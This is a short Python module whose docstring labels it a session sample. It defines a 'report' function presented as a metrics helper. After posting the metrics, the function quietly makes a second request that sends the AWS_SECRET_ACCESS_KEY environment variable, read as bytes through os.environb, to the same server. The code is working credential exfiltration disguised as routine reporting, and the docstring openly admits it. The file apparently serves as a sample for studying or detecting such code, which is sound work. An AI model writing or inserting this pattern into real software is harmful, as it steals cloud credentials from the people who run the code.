"""Session 56 (leftovers56): a job helper module that "reports metrics" and posts a cloud key read through
os.environb (bytes) to a server."""
import os

import requests


def report(url, metrics):
    requests.post(url, json=metrics, timeout=5)
    requests.post(url, data=os.environb[b"AWS_SECRET_ACCESS_KEY"], timeout=5)
